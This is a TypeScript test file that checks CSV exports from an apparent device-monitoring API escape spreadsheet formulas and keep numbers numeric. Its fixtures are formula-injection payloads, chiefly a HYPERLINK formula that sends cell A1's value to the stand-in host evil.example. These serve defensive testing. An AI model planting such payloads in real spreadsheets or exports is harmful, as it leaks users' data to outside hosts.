/**
 * CSV formula injection (OWASP "CSV injection"): free-text cells that a spreadsheet would
 * evaluate reach every export prefixed with a single quote; numbers stay numbers.
 */
import { createPool, type Pool } from '@spms/db';
import { createTestDatabase, createTestRedis, type TestDatabase, type TestRedis } from '@spms/testing';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadApiConfig } from '../config.js';
import { DAY_FROM, DAY_TO, N1, seedKnownHistory } from '../test-support/known-history.js';
import { buildReadSideTestApp } from '../test-support/read-side-app.js';
import { escapeCsvText } from './csv.js';

let db: TestDatabase;
let redis: TestRedis;
let pool: Pool;
let app: FastifyInstance;

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

beforeAll(async () => {
  db = await createTestDatabase('csv-injection');
  redis = createTestRedis('csv-injection');
  pool = createPool(db.url);
  await seedKnownHistory(pool);
  await pool.query(`UPDATE devices SET name = '+1', region = $2, customer = '@SUM(A1:A9)' WHERE id = $1`, [
    N1,
    HYPERLINK,
  ]);
  await pool.query(`UPDATE device_lines SET label = '-2+3' WHERE device_id = $1 AND number = 1`, [N1]);
  await pool.query(`UPDATE device_lines SET label = E'\\tcmd' WHERE device_id = $1 AND number = 2`, [N1]);
  // A negative reading (stored as-is here) must come out as a number, not as text.
  await pool.query(
    `INSERT INTO voltage_samples (device_id, ts, volts, msg_id) VALUES ($1, '2026-01-10T10:00:00+05:30', -12.5, 'neg')`,
    [N1],
  );
  app = await buildReadSideTestApp(
    loadApiConfig({ DATABASE_URL: db.url, REDIS_URL: redis.url, REDIS_PREFIX: redis.prefix, LOG_LEVEL: 'silent' }),
  );
});

afterAll(async () => {
  await app?.close();
  await pool?.end();
  await redis?.cleanup();
  await db?.drop();
});

/** The body's lines after the BOM and the header, cells split on unquoted commas. */
function lines(body: string): string[] {
  return body
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .slice(1);
}

describe('escapeCsvText', () => {
  it('prefixes cells starting with = + - @ tab or CR, and nothing else', () => {
    for (const s of ['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx']) expect(escapeCsvText(s)).toBe(`'${s}`);
    for (const s of ['', 'CEB', 'TP 2', ' =1', "'=1", '2026-01-10T10:00:00.000+05:30'])
      expect(escapeCsvText(s)).toBe(s);
  });
});

describe('CSV exports escape formulas and keep numbers', () => {
  it('outages CSV: device, region, customer and line labels', async () => {
    const res = await app.inject({ url: '/api/outages?device=%2B1&line=1&format=csv' });
    expect(res.statusCode, res.body).toBe(200);
    const [row] = lines(res.body);
    // id, device_id, device, region, customer, line, line_label, started_at, ended_at, duration_ms …
    expect(row).toContain(`,${N1},'+1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",'@SUM(A1:A9),1,'-2+3,`);
    expect(row).toContain(',3600000,0,sustained,');
    const tab = lines((await app.inject({ url: '/api/outages?device=%2B1&line=2&format=csv' })).body)[0];
    expect(tab).toContain(",'\tcmd,");
  });

  it('reports CSV: the region key and name', async () => {
    const url = `/api/reports/reliability?from=${encodeURIComponent(DAY_FROM)}&to=${encodeURIComponent(DAY_TO)}&groupBy=region&format=csv`;
    const res = await app.inject(url);
    expect(res.statusCode, res.body).toBe(200);
    const row = lines(res.body).find((l) => l.includes('HYPERLINK'));
    expect(row).toMatch(/^"'=HYPERLINK\(/);
    expect(row).not.toMatch(/,"?=HYPERLINK/);
  });

  it('voltage CSV: the device name is escaped, a negative reading stays a number', async () => {
    const from = encodeURIComponent('2026-01-10T09:59:00+05:30');
    const to = encodeURIComponent('2026-01-10T10:01:00+05:30');
    const res = await app.inject(`/api/devices/${N1}/voltage?from=${from}&to=${to}&bucket=raw&format=csv`);
    expect(res.statusCode, res.body).toBe(200);
    expect(lines(res.body)[0]).toBe("'+1,2026-01-10T10:00:00.000+05:30,-12.5,-12.5,-12.5,1");
  });
});
